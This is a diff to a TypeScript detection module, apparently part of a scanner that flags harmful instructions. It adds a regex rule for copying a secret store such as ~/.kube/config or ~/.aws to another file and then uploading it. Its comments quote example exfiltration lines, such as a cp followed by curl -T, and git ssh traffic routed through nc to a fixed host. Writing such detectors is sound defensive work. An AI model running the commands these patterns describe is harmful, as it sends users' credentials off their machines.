@@ -1,6 +1,6 @@
 // A user's secret store (~/.ssh, ~/.gnupg, ~/.aws, a browser profile, the keychains) sent off the
 // machine in one command line, in any shell: copied to a remote host with scp / rsync / sftp,
-// archived (tar, zip, 7z, Compress-Archive) and then uploaded (curl -T / -F @, Invoke-RestMethod
+// archived (tar, zip, 7z, Compress-Archive) or copied to another file and then uploaded (curl -T / -F @, Invoke-RestMethod
 // -InFile, a pipe into nc or ssh), or git's ssh traffic routed through `nc` to a fixed host
 // (core.sshCommand / ProxyCommand). Weak and partnered like the other harm signals: a security
 // article may show the same line as a specimen; a planted order asks for it.
@@ -33,6 +33,14 @@ export const HARM_SECRET_UPLOAD_PATTERNS: Pattern[] = [
     re: new RegExp(String.raw`\b(?:tar|zip|7z|7za|Compress-Archive|rar|gzip)\b[^\n|;&]{0,120}?${SECRET_STORE}`, "gi"),
     anchors: ["tar", "zip", "7z", "7za", "compress-archive", "rar"], also: [".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".password-store", ".mozilla", ".netrc", ".git-credentials", ".pgpass", ".config", "keychains", "application support", "appdata", "mozilla", "chrome", "edge", "credentials", "protect", "brave", "opera"], before: 4, after: 200,
     judge: (m, t, s) => (UPLOAD.test(t.slice(s + m.length, s + m.length + 320)) ? 1 : 0),
+  },
+  {
+    // `cp ~/.kube/config /tmp/k && curl -T /tmp/k https://…`: the store staged under another name first, then uploaded. A public key (.pub) is meant to be handed out.
+    id: "harm.secret-store-staged-upload", family: "harm", weight: 0.35, partners: HARM_PARTNERS,
+    description: "Asks for copying a secret store (~/.kube/config, ~/.aws, ~/.ssh …) to another file and uploading that file",
+    re: new RegExp(String.raw`\b(?:cp|mv|cat|install|Copy-Item|copy)\s[^\n|;&]{0,80}?${SECRET_STORE}`, "gi"),
+    anchors: ["cp", "mv", "cat", "install", "copy-item", "copy"], also: [".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".password-store", ".mozilla", ".netrc", ".git-credentials", ".pgpass", ".config", "keychains", "application support", "appdata", "mozilla", "chrome", "edge", "credentials", "protect", "brave", "opera"], before: 4, after: 160,
+    judge: (m, t, s) => (/^[\/\\][^\s'"]{0,80}\.pub\b/.test(t.slice(s + m.length, s + m.length + 90)) ? 0 : UPLOAD.test(t.slice(s + m.length, s + m.length + 320)) ? 1 : 0),
   },
   {
     // `git config core.sshCommand "ssh -o ProxyCommand='nc 192.0.2.7 22'"`: every push goes through a fixed host.
